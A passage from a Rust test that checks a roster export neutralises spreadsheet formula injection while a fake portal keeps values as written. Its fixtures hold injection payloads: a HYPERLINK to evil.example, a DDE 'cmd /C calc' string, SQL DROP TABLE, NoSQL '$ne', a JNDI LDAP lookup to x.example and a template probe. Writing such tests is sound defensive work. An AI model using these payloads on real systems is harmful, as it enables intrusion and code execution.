    // No cell of a WBT file is one a spreadsheet would run; the portal, a
    // JSON API, holds the values as HR wrote them.
    for rows in [&wbt_users, &wbt_orgs] {
        for (id, row) in rows {
            for (column, value) in row {
                assert!(
                    !rostersync::csv_safe::is_evaluable(value),
                    "{id} {column} = {value:?} would run in a spreadsheet"
                );
            }
        }
    }
    assert_eq!(
        wbt_users["F01"]["user_lname"],
        "'=HYPERLINK(\"http://evil.example\",\"click\")"
    );
    assert_eq!(wbt_users["F02"]["user_fname"], "'-2+3+cmd|' /C calc'!A0");
    assert_eq!(
        wbt_users["F03"]["user_lname"], "'=1+1",
        "trimmed, then neutralised"
    );
    assert_eq!(
        wbt_users["F04"]["user_fname"], "+33 1 23 45 67 89",
        "a phone number stays"
    );
    assert_eq!(wbt_users["F04"]["user_lname"], "-");
    assert_eq!(wbt_orgs["O02"]["org_label"], "'@cmd");
    let portal = |id: &str, field: &str| -> String {
        h.fake
            .with(|p| p.users[id][field].as_str().unwrap().to_string())
    };
    assert_eq!(
        portal("F01", "secondname"),
        "=HYPERLINK(\"http://evil.example\",\"click\")"
    );
    assert_eq!(portal("M01", "secondname"), "Robert'); DROP TABLE users;--");
    assert_eq!(portal("M01", "firstname"), "</user><admin x=\"1\">");
    assert_eq!(portal("M02", "secondname"), "{\"$ne\": null}");
    assert_eq!(
        portal("M02", "firstname"),
        "\\u0000 \\\" ${jndi:ldap://x.example/a} {{7*7}}"
    );
    assert_eq!(
        wbt_users["M01"]["user_lname"],
        "Robert'); DROP TABLE users;--"
    );
    assert_eq!(
        wbt_users["M02"]["user_fname"],
        "\\u0000 \\\" ${jndi:ldap://x.example/a} {{7*7}}"
    );
}
